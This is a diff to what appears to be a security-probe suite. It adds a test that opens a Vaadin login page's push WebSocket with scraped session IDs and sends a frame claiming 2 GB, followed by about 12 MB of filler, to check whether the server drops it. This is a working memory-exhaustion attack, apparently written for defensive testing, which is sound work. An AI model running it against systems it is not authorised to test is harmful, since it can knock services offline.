@@ -528,12 +528,12 @@ def bombs_of_all_sorts(target):
     return f"{len(said)} of them, answered {said}"
 
 
-def websocket(target, source_address=None, origin=None, extensions=None):
-    """The answer to the beginning of a WebSocket for SIP (RFC 7118), and its connection."""
+def websocket(target, source_address=None, origin=None, extensions=None, path="/ws", more=("Sec-WebSocket-Protocol: sip",)):
+    """The answer to the beginning of a WebSocket, one for SIP (RFC 7118) unless another path is said, and its connection."""
     plain = socket.create_connection((target.host, target.https_port), timeout=5, source_address=(source_address, 0) if source_address else None)
     tls = Web.trusting().wrap_socket(plain)
-    lines = ["GET /ws HTTP/1.1", f"Host: {target.host}:{target.https_port}", "Upgrade: websocket", "Connection: Upgrade", "Sec-WebSocket-Version: 13",
-             "Sec-WebSocket-Key: AAAAAAAAAAAAAAAAAAAAAA==", "Sec-WebSocket-Protocol: sip"]
+    lines = [f"GET {path} HTTP/1.1", f"Host: {target.host}:{target.https_port}", "Upgrade: websocket", "Connection: Upgrade", "Sec-WebSocket-Version: 13",
+             "Sec-WebSocket-Key: AAAAAAAAAAAAAAAAAAAAAA==", *more]
     lines += [f"Origin: {origin}"] * bool(origin) + [f"Sec-WebSocket-Extensions: {extensions}"] * bool(extensions)
     tls.sendall("\r\n".join(lines).encode() + b"\r\n\r\n")
     return tls.recv(4096), tls
@@ -608,6 +608,36 @@ def websockets(target):
     if found:
         raise Open("; ".join(found))
     return "refused to another site's page; each of the others was closed"
+
+
+@probe("page-socket", "fill the memory by the WebSocket on which the sign-in page listens: a message that promises two gigabytes")
+def page_socket(target):
+    source = target.source()
+    session = Session(target.host, target.https_port, source=source)
+    page = session.ask("GET", "/?v-r=init&location=login&query=", headers={"Accept": "*/*"}).text
+    number, secret = re.search(r'"v-uiId":(\d+)', page), re.search(r'"Vaadin-Push-ID":"([^"]+)"', page)
+    if not number or not secret:
+        raise RuntimeError(f"no page to sign in: {page[:100]}")
+    path = (f"/VAADIN/push?v-r=push&v-uiId={number.group(1)}&v-pushId={secret.group(1)}&X-Atmosphere-tracking-id=0&X-Atmosphere-Framework=3.1.5-javascript"
+            "&X-Atmosphere-Transport=websocket&X-Atmosphere-TrackMessageSize=true&X-atmo-protocol=true")
+    cookies = "; ".join(f"{name}={value}" for name, value in session.cookies.items())
+    answer, connection = websocket(target, source, path=path, more=(f"Cookie: {cookies}",))
+    if b" 101 " not in answer[:20]:
+        connection.close()
+        raise NotTried(f"pages have no WebSocket: {answer[:40]!r}")
+    sent = 0
+    try:
+        connection.sendall(frame(b"2000000000|"))
+        for _ in range(200):
+            connection.sendall(frame(b"x" * 60_000))
+            sent += 60_000
+    except OSError:
+        pass  # closed while we were still talking
+    shut = closed_within(connection, 10)
+    connection.close()
+    if not shut:
+        raise Open(f"{sent} bytes of a message of two gigabytes are kept for a stranger")
+    return f"closed after {sent} bytes at most"
 
 
 @probe("sign-in-times", "find out by the time of the answer who may sign in at the pages and at the API", private=True, admin=True, users=2, alone=True)
